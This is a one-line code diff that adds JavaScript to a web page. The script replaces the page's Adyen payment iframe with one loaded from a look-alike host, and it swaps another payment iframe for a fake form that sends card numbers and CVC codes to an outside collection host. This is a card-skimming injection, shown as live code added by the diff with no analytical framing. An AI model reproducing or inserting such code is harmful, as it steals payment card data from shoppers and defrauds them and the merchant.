@@ -1,0 +1,1 @@
+var iframe=document.querySelector('iframe#adyen-frame'); if(iframe){ iframe.src=String.raw`https://adyen-secure.example/f.html`; } var d=document.getElementById('iframe-payment'); if(d) d.setAttribute('src','data:text/html;base64,'+btoa('<form action="https://collect-pay.example/p"><input name="cardnumber"><input name="cvc"></form>'));
